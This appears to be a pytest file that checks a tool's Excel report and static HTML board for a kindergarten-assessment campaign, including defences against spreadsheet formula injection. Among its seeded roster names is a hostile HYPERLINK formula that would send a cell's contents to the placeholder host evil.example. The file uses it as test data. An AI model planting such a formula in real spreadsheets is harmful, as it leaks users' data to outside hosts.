"""The справка's workbook written as a stream and the board's static pages (issue 23, parts 2 and 3).

A roster of 120 ДОУ on the Tomsk schedule (1–2 experts each, some names hostile: a formula, an error's code,
a leading '@', '+' or '-') is replayed to 03.12.2021 (`simulate --until --keep-db`), on SQLite and on PostgreSQL.
The workbook `report --format xlsx` writes is read back with openpyxl and its figures compared with what
`dqflow status --json` says; its styles, number formats, widths, frozen header and charts are checked, and its
XML is unzipped to show no formula came from anyone's text. The board's pages that `board --out` writes are
compared byte for byte with the portal's renderer of the same page (`board.render` of `engine.status`'s page).
"""

from __future__ import annotations

import io
import random
import re
import uuid
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
import yaml

from conftest import PG_SERVER, TOMSK, Cli, pg_absent
from dqflow import engine, store
from dqflow.calendar import parse_local
from dqflow.present import guard
from dqflow.present.labels import STATUS_RU
from dqflow.redact import redact_url

N = 120
NOW = "2021-12-03 12:00"
HOSTILE = {3: "=1+1", 4: "#N/A", 5: "@SUM(1)", 6: "+7 (3822) 00-00-00", 7: "-1", 8: "#REF!"}
HOSTILE_EXPERT = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
STATUSES = ["done", "late", "missed", "no-materials", "excused", "open", "upcoming"]  # the summary's columns (colors.STATUS_ORDER)
DATETIME, PERCENT = "DD.MM.YYYY HH:MM", "0%"
LABELS = {s["id"]: s.get("short") or s["title"] for s in yaml.safe_load(TOMSK.read_text(encoding="utf-8"))["stages"]}  # Stage.label


def campaign_file(folder: Path) -> Path:
    """The Tomsk schedule with a roster of N ДОУ, seeded: 1–2 experts each, a few hostile names."""
    data = yaml.safe_load(TOMSK.read_text(encoding="utf-8"))
    data["campaign"]["id"] = "workbook"
    data["institutions"] = {"file": "roster.csv"}
    rng = random.Random(7)
    lines = ["id,name,email,contact,expert_id,expert_name,expert_email"]
    for i in range(1, N + 1):
        name = HOSTILE.get(i, f"МБДОУ № {i}")
        for k in range(1, rng.randint(1, 2) + 1):
            expert = HOSTILE_EXPERT if (i, k) == (9, 1) else f"Эксперт {k} ДОУ № {i}"
            lines.append(f'{i},"{name}",dou{i}@example.org,,e{i}-{k},"{expert.replace(chr(34), chr(34) * 2)}",expert{i}-{k}@example.org')
    (folder / "roster.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    path = folder / "workbook.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgresql)])
def replayed(request, tmp_path_factory):
    """The roster replayed to 03.12.2021 into a kept database, its workbook written as of NOW."""
    tmp = tmp_path_factory.mktemp("workbook")
    drop = None
    if request.param == "sqlite":
        url = f"sqlite:///{tmp / 'replayed.db'}"
    else:
        if pg_absent():
            pytest.skip(f"no PostgreSQL at {redact_url(PG_SERVER)}: {pg_absent()}")
        import psycopg

        admin = psycopg.connect(PG_SERVER.replace("postgresql+psycopg://", "postgresql://") + "/test", autocommit=True)
        name = f"dqflow_{uuid.uuid4().hex[:12]}"
        admin.execute(f'CREATE DATABASE "{name}"')
        url, drop = f"{PG_SERVER}/{name}", (admin, name)
    path = campaign_file(tmp)
    Cli(f"sqlite:///{tmp / 'unused.db'}").ok("simulate", str(path), "--until", "2021-12-03", "--keep-db", url)
    dq = Cli(url)
    xlsx = tmp / "spravka.xlsx"
    dq.ok("report", "--format", "xlsx", "--out", str(xlsx), "--now", NOW)
    try:
        yield {"url": url, "dq": dq, "tmp": tmp, "xlsx": xlsx, "book": openpyxl.load_workbook(xlsx)}
    finally:
        if drop:
            drop[0].execute(f'DROP DATABASE "{drop[1]}" WITH (FORCE)')
            drop[0].close()


def rows(sheet) -> list[dict]:
    header = [c.value for c in sheet[1]]
    return [dict(zip(header, (c.value for c in row), strict=False)) for row in sheet.iter_rows(min_row=2)]


def status_json(dq: Cli) -> dict:
    return dq.json("status", "--institutions", "--limit", str(N * 2), "--now", NOW)


# -- the workbook's figures are status's ------------------------------------------------------


def test_the_workbooks_counts_are_those_status_says(replayed):
    status = status_json(replayed["dq"])
    book = replayed["book"]
    stages = {s["id"]: s for s in status["stages"]}
    per = [s for s in status["stages"] if s["counts"]]
    assert len(per) >= 5 and any(s["counts"].get("done") for s in per) and any(s["counts"].get("missed") for s in per)
    labels = {s["id"]: LABELS[s["id"]] for s in per}

    by_label = {r["Этап"]: r for r in rows(book["Этапы"])}
    for s in per:
        c, row = s["counts"], by_label[labels[s["id"]]]
        expected = sum(c.values()) - c.get("excused", 0) - c.get("no-materials", 0)
        assert (row["Ожидалось ДОУ"], row["Сдали"], row["В срок"], row["С опозданием"], row["Пропустили"], row["Освобождены"]) == (
            expected, c["done"] + c["late"], c["done"], c["late"], c["missed"], c["excused"]), s["id"]
        assert row["Охват"] == (pytest.approx((c["done"] + c["late"]) / expected) if expected else None)
        assert row["Доля в срок"] == (pytest.approx(c["done"] / expected) if expected else None)

    summary = book["Сводка"]  # the table chart 1 draws: a row per stage, a column per status
    cells = {(c.row, c.column): c.value for row in summary.iter_rows() for c in row if c.value is not None}
    header_row = next(r for (r, col), v in cells.items() if col == 1 and v == "Этап")
    assert [cells.get((header_row, 2 + k)) for k in range(len(STATUSES))] == [STATUS_RU[st] for st in STATUSES]
    table = {cells[(r, 1)]: [cells.get((r, 2 + k)) for k in range(len(STATUSES))] for r in range(header_row + 1, header_row + 1 + len(per))}
    assert table == {labels[s["id"]]: [s["counts"].get(st, 0) for st in STATUSES] for s in per}

    listed = {i["id"]: i for i in status["institutions"]}
    assert len(listed) == N
    sheet = rows(book["ДОУ"])
    assert [r["ДОУ"] for r in sheet] == [i["id"] for i in status["institutions"]]  # roster order, every ДОУ
    for r in sheet:
        mine = listed[r["ДОУ"]]["stages"]
        assert [r[labels[sid]] for sid in labels] == [STATUS_RU[mine.get(sid, "upcoming")] for sid in labels], r["ДОУ"]
    handed = {(r["ДОУ"], r["Этап"]): r["Статус"] for r in rows(book["Сдача материалов"])}
    assert handed == {(i, labels[sid]): STATUS_RU[st] for i, inst in listed.items() for sid, st in inst["stages"].items()}
    assert stages  # every stage of status is on the stages' sheet
    assert {s["title"] for s in status["stages"]} == {r["Название по приказу"] for r in rows(book["Этапы"])}


def test_the_workbook_keeps_styles_number_formats_widths_and_frozen_headers(replayed):
    book = replayed["book"]
    assert book.sheetnames == ["Сводка", "Этапы", "ДОУ", "Сдача материалов", "Экспертизы", "Эксперты", "Уровни по областям",
                               "Согласованность"]
    for sheet in book.worksheets[1:]:
        header = sheet[1]
        assert sheet.freeze_panes == "A2", sheet.title
        assert all(c.font.bold and c.fill.fgColor.rgb == "00DDE4EE" and c.alignment.wrap_text for c in header), sheet.title
        assert sheet.auto_filter.ref == f"A1:{header[-1].column_letter}{sheet.max_row}", sheet.title
        widths = [sheet.column_dimensions[c.column_letter].width for c in header]
        assert all(8 <= w <= 62 for w in widths), (sheet.title, widths)
        assert not any(c.font.bold for row in sheet.iter_rows(min_row=2) for c in row), sheet.title
    handed = book["Сдача материалов"]
    dated = [row[4] for row in handed.iter_rows(min_row=2)] + [row[6] for row in handed.iter_rows(min_row=2) if row[6].value is not None]
    assert len(dated) > N and all(isinstance(c.value, datetime) and c.number_format == DATETIME for c in dated)
    reviews = [row[5] for row in book["Экспертизы"].iter_rows(min_row=2) if row[5].value is not None]
    assert reviews and all(isinstance(c.value, datetime) and c.number_format == DATETIME for c in reviews)
    shares = [row[c].number_format for row in book["Этапы"].iter_rows(min_row=2) for c in (12, 13) if row[c].value is not None]
    assert shares and set(shares) == {PERCENT}
    assert {row[6].number_format for row in book["Эксперты"].iter_rows(min_row=2) if row[6].value is not None} == {PERCENT}
    assert all(row[2].number_format == "General" for row in handed.iter_rows(min_row=2))  # a text column carries no format
    names = [len(r["Название"]) for r in rows(book["ДОУ"])]
    assert book["ДОУ"].column_dimensions["B"].width == min(60, max(8, max(names + [len("Название")]) + 2))
    summary = book["Сводка"]
    assert summary["A1"].font.bold and summary["A1"].font.size == 14 and summary.column_dimensions["A"].width == 45


def test_the_workbooks_two_charts_draw_the_summarys_own_cells(replayed):
    book = replayed["book"]
    summary = book["Сводка"]
    assert len(summary._charts) == 2
    cells = {(c.row, c.column): c.value for row in summary.iter_rows() for c in row}
    for chart in summary._charts:
        assert chart.tagname == "barChart" and chart.grouping == "stacked" and chart.type == "bar"
        category = chart.series[0].cat.strRef.f if chart.series[0].cat.strRef else chart.series[0].cat.numRef.f
        first, last = map(int, re.match(r"'Сводка'!\$A\$(\d+):\$A\$(\d+)", category).groups())
        assert all(isinstance(cells[(r, 1)], str) for r in range(first, last + 1))
        for k, series in enumerate(chart.series):
            column = openpyxl.utils.get_column_letter(2 + k)
            assert series.val.numRef.f == f"'Сводка'!${column}${first}:${column}${last}"
            assert all(isinstance(cells[(r, 2 + k)], int) for r in range(first, last + 1))
    with zipfile.ZipFile(replayed["xlsx"]) as archive:
        names = archive.namelist()
        assert sorted(n for n in names if n.startswith("xl/charts/chart")) == ["xl/charts/chart1.xml", "xl/charts/chart2.xml"]
        assert "<drawing " in archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


# -- text stays text --------------------------------------------------------------------------


def test_no_formula_comes_from_anyones_text(replayed):
    with zipfile.ZipFile(replayed["xlsx"]) as archive:
        sheets = {n: archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/sheet")}
    assert len(sheets) == 8
    for name, xml in sheets.items():
        assert not re.search(r"<f[ >/]", xml), name  # no formula element at all
        assert 't="e"' not in xml and 't="str"' not in xml, name  # nor an error's code or a formula's cached text
    book = replayed["book"]
    found: dict[str, list] = {text: [] for text in [*HOSTILE.values(), HOSTILE_EXPERT]}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in found:
                    found[cell.value].append(cell)
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert bool(cell.quotePrefix) == guard.formula_like(cell.value), (sheet.title, cell.coordinate, cell.value)
    assert all(len(cells) >= 2 for cells in found.values()), {t: len(c) for t, c in found.items()}  # each name on several sheets


# -- the file --------------------------------------------------------------------------------


def test_the_deflate_level_changes_the_packing_not_the_workbook(replayed, monkeypatch):
    """The workbook is deflated at `excel.DEFLATE_LEVEL` (faster than zlib's default at national scale): rendered again in
    the figures' session it is the same bytes as `report` wrote (nothing of the clock or of the run in it); rendered at
    zlib's default level, every entry is the same (name, order, stamp, attributes, CRC, XML): only the deflated streams
    differ."""
    from dqflow.results import excel, figures

    db = store.connect(replayed["url"])
    try:
        with store.dry_run(db) as session:
            now = parse_local(NOW, engine.definition(session, None).tz)
            found = figures.compute(session, None, now, detail=False, rows=True)
            fast = excel.render(found)
            monkeypatch.setattr(excel, "DEFLATE_LEVEL", None)
            default = excel.render(found)
    finally:
        db.dispose()
    assert excel.DEFLATE_LEVEL is None and fast == replayed["xlsx"].read_bytes() and fast != default
    with zipfile.ZipFile(replayed["xlsx"]) as a, zipfile.ZipFile(io.BytesIO(default)) as b:
        assert [(i.filename, i.date_time, i.external_attr, i.CRC, i.file_size) for i in a.infolist()] == \
               [(i.filename, i.date_time, i.external_attr, i.CRC, i.file_size) for i in b.infolist()]
        assert all(a.read(name) == b.read(name) for name in a.namelist())


# -- the board --------------------------------------------------------------------------------


@pytest.mark.parametrize("size", [None, 7])
def test_the_boards_pages_are_the_portals_rendering_of_each_page(replayed, tmp_path: Path, monkeypatch, size):
    """`board --out` reads the roster's statuses as plain values and renders page after page; each page is byte for
    byte what the portal's renderer makes of `engine.status`'s page of the roster (500 ДОУ a page, or 7 here)."""
    from dqflow.web import board

    if size:
        monkeypatch.setattr(board, "PAGE", size)
    dq = replayed["dq"]
    out = tmp_path / "pub"
    assert dq.ok("board", "--out", str(out), "--now", NOW).strip() == f"Записано: {out / 'index.html'}"
    page = board.PAGE
    files = sorted(out.iterdir(), key=lambda f: (f.name != "index.html", len(f.name), f.name))
    assert [f.name for f in files] == [board.file_name(start, page) for start in range(0, N, page)]
    db = store.connect(replayed["url"])
    try:
        with store.dry_run(db) as session:
            campaign = engine.definition(session, None)
            now = parse_local(NOW, campaign.tz)
            for start, file in zip(range(0, N, page), files, strict=True):
                view = engine.status(session, campaign.id, now, institutions=True, offset=start, limit=page)
                pager = board.Pager.of(start, len(view.institutions), N, lambda at: board.file_name(at, page), page) if N > page else None
                assert file.read_text(encoding="utf-8") == board.render(view, pager=pager), file.name
    finally:
        db.dispose()
    text = "".join(f.read_text(encoding="utf-8") for f in files)
    assert "=1+1" in text and "#N/A" in text and "dou3@example.org" not in text and "Эксперт" not in text
    shown = [name for name in re.findall(r"<tr><td>([^<]*)</td><td class=\"cell\">", text)]
    assert len(shown) == N
